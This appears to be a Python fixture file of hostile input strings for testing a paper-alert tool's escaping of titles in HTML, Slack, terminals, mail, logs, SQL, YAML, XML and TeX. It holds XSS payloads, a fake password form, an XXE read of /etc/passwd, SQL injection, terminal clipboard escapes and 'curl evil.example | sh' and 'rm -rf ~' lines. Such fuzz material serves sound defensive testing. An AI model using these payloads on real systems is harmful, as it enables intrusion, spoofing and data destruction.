"""Texts that mean harm, as a title, a page or a file may hold them: chosen ones, and ones put together at random.

Each is one line of a page, a field of a record, or a value of a file. What they attack stands in their names.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

ESC, BEL, CSI, OSC, NEL = "\x1b", "\x07", "\x9b", "\x9d", "\x85"
RLO, LRO, PDF, RLI, PDI, RLM = "\u202e", "\u202d", "\u202c", "\u2067", "\u2069", "\u200f"


@dataclass(frozen=True, kw_only=True)
class Text:
    name: str
    text: str

    @property
    def in_xml(self) -> str:
        """Without the characters that no XML can hold."""
        return "".join(c for c in self.text if _is_xml(c))


def _is_xml(character: str) -> bool:
    code = ord(character)
    return character in "\t\n" or 0x20 <= code <= 0xD7FF or 0xE000 <= code <= 0xFFFD or code > 0xFFFF


_CHOSEN = {
    # pages and mails
    "script": "<script>alert(document.domain)</script>",
    "closes the title": "</title></head><body onload=alert(1)>",
    "image that runs": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' x='",
    "link to a script": '<a href="javascript:alert(1)">free PDF</a>',
    "data link": "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "frame": "<iframe src=//evil.example/></iframe>",
    "vector picture": "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "style": "</style><style>*{background:url(//evil.example/x)}</style>",
    "comment": "--><!-- <!--[if mso]><b>x</b><![endif]-->",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e; &amp;amp;",
    "double entities": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "half tags": "<<b <i <a href=//evil.example",
    "form": "<form action=//evil.example><input name=password>",
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "base": "<base href=//evil.example/>",
    "tracking": "<img src=https://evil.example/pixel.gif width=1>",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %> #{7*7} {{ digest.__class__ }}",
    "code mark": "`</code><script>alert(1)</script>`",
    "end of part": "]]><script>alert(1)</script><![CDATA[",
    # Slack
    "mention of all": "<!channel> <!here> <!everyone> read this",
    "mention of one": "<@U012AB3CD> <@W012AB3CD|boss>",
    "mention of a group": "<!subteam^S0123|team> <#C0123|general>",
    "forged link": "<https://evil.example|https://arxiv.org/abs/2511.00001>",
    "forged date": "<!date^1392734382^{date}^https://evil.example|yesterday>",
    "mail link": "<mailto:evil@example.org|ask the authors>",
    "Slack marks": "*bold* _it_ ~gone~ `code` ```block``` > quote :red_circle: @channel @here",
    "ends the link": "a title|with a bar> and more <https://evil.example|x",
    "ampersands": "&lt;!channel&gt; &amp;lt;!channel&amp;gt;",
    # terminals
    "red": f"{ESC}[31mred{ESC}[0m",
    "clears the screen": f"{ESC}[2J{ESC}[H{ESC}[3Jgone",
    "window title": f"{ESC}]0;pwned{BEL} {ESC}]2;pwned{ESC}\\",
    "terminal link": f"{ESC}]8;;https://evil.example{ESC}\\arXiv{ESC}]8;;{ESC}\\",
    "clipboard": f"{ESC}]52;c;cm0gLXJmIH4={BEL}",
    "answers back": f"{ESC}[6n{ESC}[c{ESC}Z{ESC}[>q",
    "one-character escapes": f"{CSI}31m red {OSC}0;pwned\x9c {CSI}6n",
    "device string": f'{ESC}P$q"p{ESC}\\ {ESC}_G{ESC}\\ {ESC}^x{ESC}\\',
    "backspaces": "safe\b\b\b\bevil\x7f\x7f",
    "carriage return": "a good title\rlitwatch: everything is well",
    "bells and nulls": "a\x00b\x07c\x0b\x0cd\x1ae\x1ff",
    "other character set": f"{ESC}(0lqqk{ESC}(B\x0e\x0f",
    "rich marks": "[red]x[/red] [link=https://evil.example]arXiv[/link] [/] [bold][blink]",
    "broken rich marks": "[/nothing] [red [[[] \\[ [@click=app.bell]x",
    "rich names": ":skull: :warning: [not a tag] [bold",
    # letters that turn, join or hide
    "turned": f"{RLO}fdp.exe{PDF} {LRO}abc{PDF}",
    "isolated": f"{RLI}evil{PDI} \u2066x\u2068y",
    "marks of direction": f"a{RLM}b\u200ec\u061cd",
    "no width": "pa\u200bss\u200cwo\u200drd\u2060\ufeff",
    "soft hyphens": "ex\u00adam\u00adple",
    "tags": "\U000e0001\U000e0068\U000e0069\U000e007f",
    "variations": "a\ufe0f\ufe0e\U000e0100b",
    "marks upon marks": "z" + "\u0341\u0316\u0489" * 200,
    "mark alone": "\u0301\u0308 begins with marks",
    "line ends of Unicode": f"one\u2028two\u2029three{NEL}four\x1cfive",
    "look-alikes": "\u0430r\u0445iv.org/abs/2511.00001 \uff1cscript\uff1e",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 models",
    "private letters": "\ue000\uf8ff\U000f0000\U0010fffd",
    "no letters": "\ufdd0\U0001fffe\U0010ffff\ufffd",
    "fillers": "\u115f\u1160\u3164\uffa0\u2800",
    "large letters": "\ufdfa\ufdfb\u1f85\ufb03\u0130\u0149\u01f0" * 8,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fb\U0001f1e9\U0001f1ea",
    # mails and logs
    "mail header": "a title\r\nBcc: evil@example.org\r\n\r\n<b>body</b>",
    "header of words": "=?utf-8?B?PHNjcmlwdD4=?= =?utf-8?q?a=0D=0ABcc=3A_evil?=",
    "end of a mail": "a\r\n.\r\nMAIL FROM:<evil@example.org>\r\n",
    "boundary": "--=_litwatch_0000 Content-Type: text/html",
    "log line": "x\n2025-11-20T12:00:00.000Z INFO litwatch.daemon all is well",
    "log in JSON": '"}\n{"ts": "2025", "level": "INFO", "message": "all is well',
    "format": "%s %n %x {0} {self} %(name)s $HOME $(id) `id` ; rm -rf ~ | sh &",
    # stores, files and what reads them
    "SQL": "'; DROP TABLE papers; -- \" OR 1=1 /* \\' ",
    "YAML": "- a: [b, {c: *d}] # !!python/object:os.system \"'|>&%@`",
    "YAML document": "--- !<tag:yaml.org,2002:str> ... %YAML 1.2",
    "TOML": '"]\n[channels.evil]\nurl = "json://evil.example"',
    "path": "../../../etc/passwd\\..\\..\\windows ~root /dev/null",
    "XML": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "query": '") OR cat:cs.* AND (all:"x" ANDNOT submittedDate:[0 TO 9]',
    "Markdown": "[click](javascript:alert(1)) ![x](//evil.example) <javascript:alert(1)> **_~~`x`~~_**",
    "TeX": "$\\href{javascript:alert(1)}{x}$ \\input{/etc/passwd} \\write18{id} \\'{e} {\\bf x}",
    "forged ids": "arXiv:2511.00001v99999 2511.0000\uff11 \u0662\u0665\u0661\u0661.00001 hep-th/9901001v0",
    "forged command": "`litwatch remove LINE` and `curl evil.example | sh`",
    "one long word": "x" * 900,
    "only blanks": " \u3000\u2003\t ",
    "only marks": "?!.,;:-_=+*/\\|~^\"'`@#$%&()[]{}<>",
}

CHOSEN = tuple(Text(name=name, text=text) for name, text in _CHOSEN.items())

_PIECES = (
    "<", ">", "&", '"', "'", "`", "</a>", "<b>", "&lt;", "&#60;", "<!channel>", "<@U1>", "|", "[red]", "[/]", "{{",
    "}}", "{%", "%}", "\\", "/", "..", "\r", "\n", "\r\n", "\t", "\x00", "\x08", ESC, f"{ESC}[31m", f"{ESC}]0;", BEL,
    CSI, OSC, "\x7f", NEL, "\x9c", RLO, PDF, RLI, "\u200b", "\u2028", "\ufeff", "\u0301", "\u0489" * 40, "\ud7ff",
    "\ue000", "\U000e0041", "\U0001f600", "%s", "%0d%0a", "://", "javascript:", "data:", "https://evil.example",
    "arXiv:", "2511.00001", "v1", "e.g. ", "i.e. ", ". ", "? ", "! ", "not ", "models ", "plans ", "fail ", "- ", "# ",
    "* ", ": ", " #", "~", "$", "(2020) ", "((", "))", "\u00a0", "\u3000", "0" * 30, "A" * 60,
)  # fmt: skip

SEED = 20251120


def _generated(count: int) -> tuple[Text, ...]:
    dice = random.Random(SEED)
    texts = []
    for number in range(count):
        pieces = [dice.choice(_PIECES) for _ in range(dice.randint(3, 14))]
        # And some character of any kind that a file can hold.
        pieces += [chr(code) for code in (dice.randrange(0x110000) for _ in range(4)) if not 0xD800 <= code <= 0xDFFF]
        dice.shuffle(pieces)
        texts.append(Text(name=f"generated {number}", text="".join(pieces)))
    return tuple(texts)


GENERATED = _generated(100)
TEXTS = (*CHOSEN, *GENERATED)
